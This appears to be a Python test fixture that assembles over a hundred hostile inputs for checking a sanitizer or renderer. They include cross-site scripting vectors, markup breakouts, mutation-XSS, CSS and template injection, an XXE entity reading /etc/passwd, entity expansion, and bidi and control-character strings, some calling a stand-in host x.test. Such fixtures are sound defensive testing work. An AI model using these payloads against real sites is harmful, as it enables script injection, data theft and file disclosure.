"""Over a hundred texts that do harm if text is taken for markup, script, style, an address or a format.

Any of them that runs sets `window.__ran`, opens a dialog, or requests something from another machine.
"""

from typing import Final

_RUN: Final = ("__ran=1", "alert(1)", "parent.__ran=1", "fetch('//x.test')", "top[`__ran`]=1", "document.title='ran'")
_ELEMENTS: Final = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<script src=//x.test/a.js></script>",
    "<script type=module>import '//x.test/a.js'</script>",
    "<script>{0}//",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img src=x onerror={0}>",
    '<img src=x onerror="{0}"//',
    "<img/src=x/onerror={0}>",
    "<img src='x:x' OnErRoR={0} />",
    "<img srcset=x onerror={0}>",
    "<image href=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href=data:,{0} /></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s />",
    "<svg><set attributeName=onmouseover to={0} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'/></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
    "<svg><foreignObject><body onload={0}></foreignObject></svg>",
    "<svg><image href=//x.test/a.png /></svg>",
    "<body onload={0}>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<frameset onload={0}>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<embed src='javascript:{0}'>",
    '<a href="javascript:{0}">x</a>',
    "<a href='jAvAsCrIpT&colon;{0}'>x</a>",
    "<a href=' \tjava\tscript:{0}' autofocus>x</a>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<button popovertarget=x onclick={0} autofocus>x</button><b popover id=x onbeforetoggle={0}>",
    "<marquee onstart={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart={0}>",
    "<p tabindex=1 style=display:block id=x onfocus={0}>#x",
    "<template shadowrootmode=open><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>"></noscript>',
)
_BREAKING_OUT: Final = (
    "</script><script>{0}</script>",
    "</SCRIPT ><script>{0}</script>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    "]]><script>{0}</script>",
    "--><script>{0}</script><!--",
    "--!><img src=x onerror={0}>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</textarea><img src=x onerror={0}>",
    "</text></svg><img src=x onerror={0}>",
    "</desc><script>{0}</script><desc>",
    "</template></dialog></option><img src=x onerror={0}>",
    '" onmouseover={0} x="',
    "' autofocus onfocus={0} x='",
    "` onload={0} ",
    '\\"});{0};({"',
    "'''\n[play]\nscript = '{0}'",
)
_MUTATING: Final = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={0}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={0}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<listing>&lt;img src=x onerror={0}&gt;</listing>",
    "<svg><desc><![CDATA[</desc><script>{0}</script>]]></svg>",
    '<xmp><p title="</xmp><img src=x onerror={0}>">',
    "<table><td background='javascript:{0}'><caption><img src=x onerror={0}>",
    "\u003c\u200bscript\u003e{0}\uff1cimg src=x onerror={0}\uff1e",
)
_STYLES: Final = (
    "<style>*{display:none}</style>",
    "<style>@import '//x.test/a.css';</style>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<b style='position:fixed;inset:0;background:url(//x.test/a.png)'>x</b>",
    "}*{background:url(//x.test/a.png)}",
    "red;background:url(//x.test/a.png)",
    "expression(alert(1))",
    "var(--sk-paper)\\00003cimg",
)
_ADDRESSES: Final = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//x.test/>",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<form action=//x.test><button autofocus>go</button></form>",
    "![x](//x.test/a.png) [x](javascript:alert(1))",
    '#x" href="//x.test',
    "file:///etc/passwd",
)
_TEMPLATES: Final = (
    "${{alert(1)}}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7} <%= 7*7 %> {% raw %}",
    "`;alert(1)//",
    "';alert(1)//",
    "%s%s%s%n",
    "{0.__class__} {state} {{module}}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "__proto__",
    "constructor",
    "toString",
)
_CODED: Final = (
    "\\u003cscript>alert(1)</script>",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e",
    "&amp;lt;b&amp;gt; &nbsp; &unknown; &",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>&b;",
    "<!--<script>",
)
_LETTERS: Final = (
    "\u202e<b>turned</b>",
    "\u2066\u2067hidden\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u2028alert(1)\u2029",
    "x\u0085y\x0bz\x0cw",
    "<\x00script>alert(1)</script>",
    "\x1b[31mred\x1b]0;title\x07",
    "\ud800<b>half</b>\udfff",
    "z" + "\u0335" * 60,
    "\U000e0001\U000e0041\ufffe\uffff",
    "本" * 300,
    "<b>" * 600,
    "W" * 1_900,
)


def _running(forms: tuple[str, ...]) -> tuple[str, ...]:
    """Each with its own script in it, one after the other."""
    return tuple(form.replace("{0}", _RUN[number % len(_RUN)]) for number, form in enumerate(forms))


PAYLOADS: Final = (
    *_running(_ELEMENTS + _BREAKING_OUT + _MUTATING),
    *(_STYLES + _ADDRESSES + _TEMPLATES + _CODED + _LETTERS),
)
